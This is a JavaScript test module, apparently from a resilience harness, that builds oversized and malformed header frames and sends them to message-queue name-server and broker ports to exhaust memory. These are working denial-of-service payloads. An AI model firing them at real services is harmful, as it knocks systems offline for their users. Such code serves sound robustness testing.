const MIB = 2 ** 20

/** Names of a header of 10 MB were each looked for eight times, each time in all of them: 6 s. */
export default {
  name: 'endless-header',
  says: 'headers of some megabytes: many names, long names, one text, and a million fields of a binary one',
  growMiB: 160,
  async attack(field) {
    const count = field.isShort ? 100_000 : 900_000
    const names = Array.from({ length: count }, (_, i) => `"${i.toString(36)}cod":1`).join(',')
    const fields = Array.from({ length: 60_000 }, (_, i) => `"${i}":""`).join(',')
    const binary = Buffer.alloc(21 + (field.isShort ? 1e5 : 1e6) * 7, 'x')
    binary.fill(0, 0, 21)
    binary.writeInt16BE(105, 0)
    binary.writeInt32BE(binary.length - 21, 17)
    for (let at = 21; at < binary.length; at += 7) {
      binary.writeInt16BE(1, at)
      binary.writeInt32BE(0, at + 3)
    }
    const frames = [
      field.rawFrame(Buffer.from(`{${names}}`)),
      field.rawFrame(Buffer.from(`{"code":105,"extFields":{${names}}}`)),
      field.rawFrame(Buffer.from(`{"code":105,"extFields":{${fields}}}`)),
      field.rawFrame(Buffer.from(`{"code":105,"remark":"${'\\u0001'.repeat(2 * MIB)}"}`)),
      field.rawFrame(Buffer.from(`{'code':105,${'1'.repeat(1_000_000)}x}`)),
      field.rawFrame(binary, undefined, 1),
    ]
    for (const port of [field.namesrvPort, field.brokerPort]) {
      for (const frame of frames) {
        const peer = await field.connect(port)
        await peer.write(frame)
        await peer.call({ code: 105, fields: { topic: 'TBW102' } }, 5000)
        peer.destroy()
      }
    }
  },
}
